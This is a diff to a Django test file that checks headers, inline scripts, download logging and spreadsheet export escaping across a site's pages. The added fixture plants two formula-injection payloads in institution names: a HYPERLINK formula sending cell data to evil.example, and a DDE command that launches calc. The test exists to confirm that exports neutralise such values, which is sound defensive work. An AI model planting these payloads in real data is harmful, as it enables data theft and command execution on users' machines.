@@ -1,8 +1,10 @@
 """What every answer tells the browser, and what no page may hold: read off all addresses at once."""
 
+import csv
 import re
 from collections.abc import Iterator
 from html.parser import HTMLParser
+from io import BytesIO, StringIO
 from pathlib import Path
 
 import pytest
@@ -10,9 +12,11 @@ from django.conf import settings
 from django.http.response import HttpResponseBase
 from django.test import Client
 from django.urls import reverse
+from openpyxl import load_workbook
 
 from accounts.models import User
 from audit.models import Entry, Event
+from institutions.models import Institution
 from tests.access.addresses import ALL
 from tests.access.test_anonymous import address
 from tests.access.world import World
@@ -27,13 +31,40 @@ SAFE_REST = {
     "Cross-Origin-Resource-Policy": "same-origin",
 }
 GIVEN_OUT = {Event.COPY_DOWNLOADED, Event.RECEIPT_DOWNLOADED, Event.LIST_EXPORTED, Event.LOG_EXPORTED}
-# Empty forms that are the same for everybody, and nobody's data.
-BLANK_FORMS = {"institution-import-template"}
+# Nobody's data: an empty form, and what is meant to be kept and compared elsewhere.
+NOBODYS = {"import-template", "log-anchor-file", "log-key", "log-verifier"}
+LEDGERS = {"agreement-export", "filing-export", "coverage-export"}
+FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")
+FORMULA = '=HYPERLINK("http://evil.example/"&A1,"点击")'
+COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
 NOT_OF_THE_SITE = {"templates/emails", "templates/pdf"}  # letters and papers need their styles inside them
 TEMPLATE_TAGS = re.compile(r"\{%.*?%\}|\{\{.*?\}\}", re.DOTALL)
 INLINE_IN_SCRIPTS = re.compile(
     r"""setAttribute\(\s*["'](style|on\w+)|\.on[a-z]+\s*=[^=]|\beval\(|new Function\(|javascript:"""
 )
+
+
+@pytest.fixture
+def hostile(
+    elder_care_institution: Institution, medical_institution: Institution, elder_care_clerk: User, health_reviewer: User
+) -> None:
+    """Names like formulas, before anything is made of them: agreements keep the names that they were made with."""
+    for institution, name in ((elder_care_institution, FORMULA), (medical_institution, COMMAND)):
+        institution.name = institution.legal_representative = institution.address = name
+        institution.save(update_fields=["name", "legal_representative", "address"])
+    for user in (elder_care_clerk, health_reviewer):
+        user.full_name = "+86 王五"
+        user.save(update_fields=["full_name"])
+
+
+def texts_of(content: bytes) -> list[str]:
+    """Return every text in the cells of a workbook or a csv file. Formulas count as what they say."""
+    if content.startswith(b"PK"):
+        book = load_workbook(BytesIO(content), read_only=True)
+        values = [value for sheet in book for row in sheet.iter_rows(values_only=True) for value in row]
+    else:
+        values = [value for line in csv.reader(StringIO(content.decode("utf-8-sig"))) for value in line]
+    return [value for value in values if isinstance(value, str)]
 
 
 class Inline(HTMLParser):
@@ -76,26 +107,32 @@ def wrong_with(response: HttpResponseBase) -> Iterator[str]:
 
 
 @pytest.mark.django_db
-def test_every_page_and_every_file(world: World, request: pytest.FixtureRequest, client: Client) -> None:
-    """Headers of all; nothing inline in pages; of every file given out an entry, and no reading by content."""
-    wrong, files = [], set()
+def test_every_page_and_every_file(hostile: None, world: World, request: pytest.FixtureRequest, client: Client) -> None:
+    """Headers of all; nothing inline in pages; of every file given out an entry; in no sheet a formula."""
+    wrong: list[str] = []
+    files: set[str] = set()
+    sheets: dict[str, str] = {}
     for visit in visits(world, request):
         client.force_login(visit.user)
-        before = Entry.objects.count()
+        before = Entry.objects.filter(event__in=GIVEN_OUT).count()
         response = client.get(visit.url)
-        content = response.getvalue()
+        content, kind = response.getvalue(), response["Content-Type"]
         wrong += [f"{visit}: {what}" for what in wrong_with(response)]
-        if response["Content-Type"].startswith("text/html"):
+        if kind.startswith("text/html"):
             wrong += [f"{visit}: inline {what}" for what in inline_in(content.decode())]
-        if response.get("Content-Disposition", "").startswith("attachment") and visit.name not in BLANK_FORMS:
+        if "spreadsheet" in kind or "csv" in kind:
+            sheets[visit.name] = "\n".join(texts_of(content))
+            wrong += [f"{visit}: formula {text}" for text in texts_of(content) if text.startswith(FORMULAS)]
+        if response.get("Content-Disposition", "").startswith("attachment"):
             files.add(visit.name)
-            entry = Entry.objects.order_by("-id").first()
-            if entry is None or Entry.objects.count() == before or entry.event not in GIVEN_OUT:
+            entries = Entry.objects.filter(event__in=GIVEN_OUT).count() - before
+            if entries != (visit.name not in NOBODYS):
                 wrong.append(f"{visit}: not logged")
             if response["Cache-Control"] != "private, no-store" or "sandbox" not in response[CSP]:
                 wrong.append(f"{visit}: given out by another way than boundary.serving")
     assert not wrong, "\n".join(wrong)
-    assert {"agreement-export", "filing-export", "coverage-export", "copy-download", "scan-file"} <= files
+    assert {*LEDGERS, "copy-download", "scan-file"} <= files
+    assert all(f"'{FORMULA}" in sheets[name] for name in LEDGERS)
 
 
 def test_no_template_and_no_script_of_ours_is_inline() -> None:
